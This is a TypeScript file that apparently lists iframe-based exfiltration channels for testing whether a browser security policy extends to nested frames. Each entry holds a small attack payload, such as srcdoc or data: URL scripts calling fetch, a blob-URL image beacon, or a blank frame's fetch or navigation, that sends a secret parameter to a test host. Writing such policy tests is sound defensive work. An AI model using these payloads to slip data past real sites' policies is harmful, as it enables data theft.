import type { Channel } from "./channel.ts";

/** Nested frames: each starts a document or a realm of its own, which must inherit the policy. */
export const FRAMES: readonly Channel[] = [
  {
    id: "iframe_src",
    family: "frame",
    entry: 23,
    attack: (t) => t.element("iframe", { src: `${t.base}/frame?secret=1` }),
  },
  {
    id: "iframe_srcdoc_fetch",
    family: "frame",
    entry: 22,
    attack: (t) =>
      t.element("iframe", {
        srcdoc: `<script>fetch("${t.base}/c?secret=1",{mode:"no-cors"})</script>`,
      }),
  },
  {
    id: "iframe_blank_realm",
    family: "frame",
    entry: 22,
    attack: (t) => {
      const realm = t.element("iframe", {}).contentWindow;
      return realm?.fetch(`${t.base}/c?secret=1`, { mode: "no-cors" });
    },
  },
  {
    id: "iframe_data_fetch",
    family: "frame",
    entry: 22,
    attack: (t) =>
      t.element("iframe", {
        src: `data:text/html,<script>fetch("${t.base}/c?secret=1",{mode:"no-cors"})</script>`,
      }),
  },
  {
    id: "iframe_blob_fetch",
    family: "frame",
    entry: 22,
    attack: (t) =>
      t.element("iframe", {
        src: t.blob(`<script>new Image().src="${t.base}/img?secret=1"</script>`, "text/html"),
      }),
  },
  {
    id: "iframe_blank_selfnav",
    family: "frame",
    entry: 23,
    attack: (t) => {
      const realm = t.element("iframe", {}).contentWindow;
      if (realm) realm.location.href = `${t.base}/c?secret=1`;
    },
  },
];
